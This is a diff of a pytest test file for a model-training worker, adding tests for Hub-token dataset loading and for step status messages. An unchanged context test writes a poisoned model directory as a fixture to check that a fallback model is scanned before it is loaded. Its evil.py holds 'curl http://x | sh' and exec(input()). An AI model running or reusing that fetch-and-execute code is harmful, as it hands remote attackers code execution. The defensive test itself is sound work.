@@ -9,8 +9,9 @@ from typing import Any
 
 import pytest
 
-from tests.studio.fakes import Call, Lab, Trainer
-from tests.studio.subject import Subject
+from tests.studio.fakes import Call, Lab, Rows, Trainer
+from tests.studio.guards.worker import secret_keys
+from tests.studio.subject import WORKER, Subject
 from tests.studio.training import ClosableQueue, data_file, has_own, output_dir, pipe_queue, run
 
 COMPLETED = "Training completed"
@@ -59,6 +60,19 @@ def test_model_without_a_pin_is_loaded_at_its_revision(worker: ModuleType, subje
     found = run(worker, tmp_path, model_revision="0123")
 
     assert [(str(tmp_path / "model"), None, "0123" if _knows_fallback(subject) else None)] == _loads(found.lab)
+
+
+def test_token_reaches_a_dataset_of_the_hub(worker: ModuleType, tmp_path: Path) -> None:
+    """A dataset from the Hub is loaded with the token, its evaluation split too, and the slice cuts the first alone."""
+    hub: dict[str, Any] = {"hf_dataset": "org/data", "eval_split": "val", "eval_steps": 1, "dataset_slice_end": 1}
+
+    found = run(worker, tmp_path, hf_token="t", **hub)
+
+    assert [
+        Call("load_dataset", ("org/data",), {"split": "train", "token": "t"}),
+        Call("load_dataset", ("org/data",), {"split": "val", "token": "t"}),
+    ] == found.lab.asked("load_dataset")
+    assert (2, 10) == (len(found.lab.trainer.train_dataset), len(found.lab.trainer.eval_dataset))
 
 
 BROKEN_CACHE = OSError("Can't load processor for 'pinned'")
@@ -137,7 +151,7 @@ def test_fallback_is_scanned_before_it_is_loaded(worker: ModuleType, subject: Su
     poisoned.mkdir()
     (poisoned / "config.json").write_text('{"auto_map": {"AutoModel": "evil.Model"}}', encoding="utf-8")
     (poisoned / "evil.py").write_text("import os\nos.system('curl http://x | sh')\nexec(input())\n", encoding="utf-8")
-    config = {
+    config: dict[str, Any] = {
         "model_name": str(poisoned),
         "model_snapshot_path": str(pinned),
         "model_revision": "0123",
@@ -491,6 +505,49 @@ def test_run_tells_what_it_does_in_order(worker: ModuleType, tmp_path: Path) -> 
     assert [1, 1] == [event["step"] for event in found.of("progress")]
     assert "complete" == found.events[-1]["type"]
     assert {"output_dir", "status_message"} == found.completed().keys()
+
+
+@pytest.mark.parametrize(
+    ("config", "told"),
+    [
+        ({"format_type": "alpaca"}, ["Formatting dataset (alpaca)...", "Formatting dataset (10 rows)..."]),
+        ({"is_dataset_image": True}, ["Formatting VLM dataset..."]),
+        ({"train_on_completions": True}, ["Configuring response-only training..."]),
+        ({"local_datasets": None, "s3_config": {"bucket": "b"}}, ["Downloading dataset from S3..."]),
+    ],
+    ids=["formatting", "formatting images", "responses only", "S3"],
+)
+def test_step_is_told_before_it_is_taken(
+    config: dict[str, Any], told: list[str], worker: ModuleType, subject: Subject, tmp_path: Path
+) -> None:
+    """Each step is a status before it is taken, whatever comes of it here, where what it needs is faked or missing.
+
+    A release whose formatting cannot be imported says that instead; one before S3 has no dataset.
+    """
+    lab = Lab(vision=True)
+
+    found = run(worker, tmp_path, lab, web="s3_config" in config, **config)
+
+    said = found.statuses()
+    assert said == [event["message"] for event in found.of("status")]
+    if "Format helper unavailable, using raw dataset" in said and "train_on_completions" not in config:
+        assert set(told).isdisjoint(said)
+    elif "s3_config" in config and "s3_config" not in secret_keys(subject.tree(WORKER)):
+        assert "No dataset specified" == str(found.error)
+    else:
+        assert told == [text for text in said if text in told]
+
+
+def test_bound_on_the_rows_is_told(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
+    """A run of a few steps over many rows says how many of them it uses, in releases that bound them."""
+    lab = Lab(rows=Rows(range(20_000)))
+
+    found = run(worker, tmp_path, lab, max_steps=1)
+
+    used = len(lab.trainer.train_dataset)
+    bound = [text for text in found.statuses() if f" {used} of 20000 rows" in text]
+    knows = "bound_dataset_rows" in subject.text(WORKER)
+    assert (1 if knows else 0, knows) == (len(bound), used < 20_000)
 
 
 @pytest.mark.parametrize("module", ["mlx.core", "unsloth_zoo", "unsloth_zoo.mlx"])
